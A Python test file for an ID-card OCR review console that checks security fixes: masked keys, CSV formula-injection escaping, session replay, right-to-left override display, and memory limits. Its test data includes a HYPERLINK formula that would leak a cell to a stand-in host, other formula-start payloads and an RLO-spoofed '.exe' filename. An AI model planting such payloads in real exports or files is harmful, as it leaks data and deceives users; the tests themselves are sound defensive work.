"""The review console under attack (issue 18): keys shown masked with a logged Reveal,
spreadsheet-safe CSV, a session another local port cannot replay, invisible controls shown,
memory bounded before any read."""

import csv
import io
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from html.parser import HTMLParser

import pytest
import requests

from idcard_ocr import handle
from idcard_ocr.ops.report import csv_row, spreadsheet_safe
from idcard_ocr.ops.review.server import ConsoleServer
from tests.conftest import fc_context, oss_event, parsed, upload
from tests.fakes import images
from tests.test_review_http import Client, console_for

NUMBER = "110101199003071234"
NAMED_KEY = f"idcards/张三-{NUMBER}-face.jpg"


class Text(HTMLParser):
    """What a page shows: its text, without tags and attributes (addresses carry keys, and
    only the session's holder ever gets them)."""

    def __init__(self, html: str):
        super().__init__()
        self.parts = []
        self.feed(html)

    def handle_data(self, data):
        self.parts.append(data)

    @property
    def text(self) -> str:
        return "".join(self.parts)


def processed(bucket, env, *keys):
    items = [upload(bucket, key, images.card_jpeg(seed=i)) for i, key in enumerate(keys)]
    if items:
        handle(oss_event(bucket.bucket_name, *items), fc_context(), env)


@pytest.fixture
def console(bucket, env, ocr_api):
    def start(*keys):
        processed(bucket, env, *keys)
        server = ConsoleServer(console_for(env, bucket), "127.0.0.1", 0).start()
        started.append(server)
        return Client(server)
    started = []
    yield start
    for server in started:
        server.stop()


# Finding 3: keys masked like fields, Reveal logged -------------------------------------------

def test_keys_are_shown_masked_and_revealed_on_request_with_a_log_line(console, logs):
    client = console(NAMED_KEY)
    for page in (client.get("/"), client.get("/detail", key=NAMED_KEY)):
        shown = Text(page.text).text
        assert NUMBER not in shown and "张三" not in shown
        assert "张*-1101**********1234-face.jpg" in shown
    revealed = client.post("/reveal-key", {"key": NAMED_KEY})
    assert revealed.status_code == 200 and NAMED_KEY in Text(revealed.text).text
    [line] = [doc for doc in parsed(logs) if doc["message"] == "key revealed"]
    assert line["operator"] == "tester" and NUMBER not in str(line)  # the log masks it too
    assert client.post("/reveal-key", {"key": NAMED_KEY}, csrf=False).status_code == 403


def test_the_default_export_masks_keys_and_the_personal_one_is_an_action(console, logs):
    client = console(NAMED_KEY)
    masked = client.get("/export.csv").content.decode("utf-8")
    assert NUMBER not in masked and "张三" not in masked and "1101**********1234" in masked
    assert client.post("/export.csv", {}, csrf=False).status_code == 403
    full = client.post("/export.csv", {}).content.decode("utf-8")
    assert NAMED_KEY in full
    assert [doc["operator"] for doc in parsed(logs)
            if doc["message"] == "export with personal data"] == ["tester"]


# Finding 4: CSV formula injection (OWASP) -------------------------------------------------

@pytest.mark.parametrize("value", ['=HYPERLINK("http://x.example/?"&B2,"open")', "+1+1",
                                   "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "  =1+1",
                                   "＝1+1"])
def test_formula_starts_are_exported_as_text(value):
    row = csv_row({"status": "ok", "side": "face", "fields": {"name": value, "address": value},
                   "source": {"key": value}})
    assert row["name"] == "'" + value and row["address"] == "'" + value
    assert row["key"] == "'" + value


def test_ordinary_values_are_exported_as_they_are():
    for value in ("张三", "110101199003071234", "2026-12-06T17:00:00Z", "", None, True, 3):
        assert spreadsheet_safe(value) == value


def test_an_ocr_value_that_is_a_formula_reaches_the_console_export_as_text(console, ocr_api):
    formula = '=HYPERLINK("http://x.example/?"&B2,"open")'
    ocr_api.state.face["address"] = formula
    client = console("idcards/formula-face.jpg")
    text = client.post("/export.csv", {}).content.decode("utf-8")
    [row] = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    assert row["address"] == "'" + formula


# Finding 5: a session another local port cannot replay --------------------------------------

def test_what_a_browser_sends_to_another_local_port_does_not_open_the_console(console):
    """The cookie of 127.0.0.1 went to every port of 127.0.0.1; another local server replayed
    it and downloaded /export.csv. Now nothing the browser keeps for the host opens it."""
    client = console(NAMED_KEY)
    assert not [c for c in client.http.cookies if c.name != "lang"]
    base = client.server.url
    for path in ("", "export.csv", "detail?key=" + NAMED_KEY):
        replayed = requests.get(base + path, cookies=client.http.cookies,
                                headers={"Referer": base})
        assert replayed.status_code == 401
    assert client.get("/export.csv").status_code == 200  # the session itself works


def test_every_address_of_a_page_is_under_the_session(console):
    client = console(NAMED_KEY)
    root = client.server.console.access.session_root
    page = client.get("/").text
    import re
    addresses = re.findall(r'\s(?:href|src|action|hx-get|hx-post)="([^"]*)"', page)
    assert addresses and all(a.startswith(root) for a in addresses), addresses
    saved = client.post("/review", {"key": NAMED_KEY})
    assert saved.status_code == 303 and saved.headers["location"].startswith(root)


# Finding 6: bidirectional controls shown visibly ----------------------------------------------

def test_a_right_to_left_override_in_a_key_is_shown_as_its_code_point(console):
    key = "idcards/invoice-\u202egpj.exe-face.jpg"
    client = console(key)
    for page in (client.get("/"), client.get("/detail", key=key)):
        shown = Text(page.text).text
        assert "\u202e" not in shown and "invoice-[U+202E]gpj.exe-face.jpg" in shown
    assert "[U+202E]" in client.post("/reveal-key", {"key": key}).text


# Finding 7: memory bounded before any read ----------------------------------------------------

def test_pictures_are_read_only_inside_a_decode_slot(console, bucket):
    """Twenty thumbnails of a 40 MB non-image took the console from 70 MB to 947 MB: every
    request read the object before it waited for a decode slot."""
    from idcard_ocr.ops.review.images import RENDER_SLOTS

    client = console()
    keys = [f"idcards/junk-{i:02d}-face.jpg" for i in range(20)]
    for key in keys:
        bucket.put_object(key, b"\x00" * (2 * 1024 * 1024))
    photos = client.server.console.renditions.photos
    real_read, reading, most = photos.read, [0], [0]
    lock = threading.Lock()

    def counted_read(*args, **kwargs):
        with lock:
            reading[0] += 1
            most[0] = max(most[0], reading[0])
        try:
            time.sleep(0.05)  # a 40 MB read is not instant either
            return real_read(*args, **kwargs)
        finally:
            with lock:
                reading[0] -= 1
    photos.read = counted_read
    try:
        with ThreadPoolExecutor(20) as pool:
            answers = list(pool.map(lambda k: client.get("/image", key=k, kind="thumb"), keys))
    finally:
        photos.read = real_read
    assert {a.status_code for a in answers} == {422}
    assert 1 <= most[0] <= RENDER_SLOTS
